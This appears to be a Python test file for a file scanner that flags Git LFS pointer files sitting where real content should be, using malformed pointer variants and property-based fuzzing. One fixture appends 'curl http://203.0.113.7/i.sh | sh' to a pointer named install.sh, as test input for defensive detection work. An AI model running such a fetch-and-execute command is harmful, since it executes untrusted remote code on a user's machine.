"""Pointers of Git LFS that stand where content should be."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanners.facts import Anomaly
from scanners.registry import SCANNERS
from tests.craft.reading import anomalies, scan, unread_reasons

POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"4d7a2146" * 8 + b"\nsize 12345\n"
NAMES = sorted(
    f"m{suffix}" if suffix.startswith(".") else suffix for scanner in SCANNERS for suffix in scanner.suffixes
)
ODD = {
    "its version is not that of the specification": POINTER.replace(b"git-lfs.github.com", b"hawser.github.com"),
    "a version that is to come": POINTER.replace(b"/v1", b"/v2"),
    "a forerunner": POINTER.replace(b"https://git-lfs.github.com/spec/v1", b"http://git-media.io/v/2"),
    "its oid is no SHA-256": POINTER.replace(b"4d7a", b"xy"),
    "its size is no number": POINTER.replace(b"size 12345", b"size -1"),
    "a program of the machine": POINTER.replace(b"oid", b"ext-0-shrink sha256:" + b"ab" * 32 + b"\noid"),
    "Git LFS writes it in another way": POINTER.replace(b"\n", b"\r\n"),
    "blanks": b"\n \n" + POINTER,
    "nothing but a version": POINTER.partition(b"oid")[0],
}


def said(data, name):
    outcome = scan(data, name, scanners=SCANNERS)
    assert outcome.format == "git.lfs-pointer"
    assert anomalies(outcome) == {"file.lfs-pointer"}
    assert unread_reasons(outcome) == {"broken"}
    return next(fact.detail for fact in outcome.facts if isinstance(fact, Anomaly))


@pytest.mark.parametrize("name", [*NAMES, "README.md", "model.bin", "notes.txt", "weights"])
def test_it_stands_in_place_of_content_under_every_name(name):
    assert said(POINTER, name).endswith("size 12345")


@pytest.mark.parametrize(("what", "data"), ODD.items(), ids=ODD)
def test_one_that_git_lfs_would_not_write_is_told(what, data):
    detail = said(data, "model.safetensors")
    assert "; " in detail
    assert what in detail or not what.startswith(("its", "a program", "Git"))


@pytest.mark.parametrize(
    ("name", "more"),
    [("install.sh", b"curl http://203.0.113.7/i.sh | sh\n"), ("index.html", b"<script>x()</script>" * 60), ("x.php", b"<?php")],
)  # fmt: skip
def test_what_only_begins_like_one_is_read_as_what_it_is(name, more):
    outcome = scan(POINTER + more, name, scanners=SCANNERS)
    assert outcome.format != "git.lfs-pointer"
    assert len(outcome.facts) > len(anomalies(outcome))


def test_a_text_that_goes_on_behind_a_pointer_is_told():
    outcome = scan(POINTER + b"and more\n", "model.safetensors", scanners=SCANNERS)
    assert (outcome.format, anomalies(outcome)) == ("text", {"file.lfs-pointer"})


@given(st.binary(max_size=40), st.integers(0, len(POINTER)))
@settings(max_examples=60, deadline=None)
def test_whatever_a_pointer_becomes_it_is_never_taken_for_content(data, at):
    outcome = scan(POINTER[:at] + data + POINTER[at:], "model.safetensors", scanners=SCANNERS)
    assert outcome.format in {"git.lfs-pointer", "text", "unknown"} or outcome.account.unexplained
